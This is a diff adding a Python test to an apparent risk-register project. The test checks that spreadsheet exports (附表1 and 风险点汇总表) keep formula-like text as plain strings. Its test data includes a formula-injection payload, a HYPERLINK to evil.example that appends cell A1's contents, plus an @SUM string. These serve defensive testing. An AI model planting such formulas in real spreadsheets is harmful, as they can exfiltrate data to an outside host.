@@ -226,6 +226,32 @@ def test_r7_measures_are_numbered_one_per_line(unit, post, staff):
     assert row[10].alignment.wrap_text
 
 
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_every_workbook(unit, post, staff):
+    """Issue 14 (7): a risk point named like a formula is a string cell, not a live formula, in the 附表1 workbook
+    and the 风险点汇总表, as LibreOffice reads them back (no formula anywhere in the files)."""
+    import zipfile
+
+    from risks.appendix import register_data
+    from risks.exports import register_xlsx
+
+    campaign, unit_form, _personal = build_forms(unit, post=post)
+    RiskPoint.objects.filter(name="现金管理违规1").update(name=EVIL, manifestation="+1 -2 @SUM(A1)")
+    books = {
+        "appendix": appendix_xlsx(appendix_data(unit_form)),
+        "register": register_xlsx(register_data(campaign)["rows"], title="风险点汇总表"),
+    }
+    for name, content in books.items():
+        cells = [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]
+        evil = [c for c in cells if c.value == EVIL]
+        assert evil and all(c.data_type == "s" for c in evil), name
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets), name
+
+
 def test_personal_form_workbook_has_the_grid_and_the_pledge(forms, staff):
     _campaign, _unit_form, personal = forms
     staff.title = "科员"
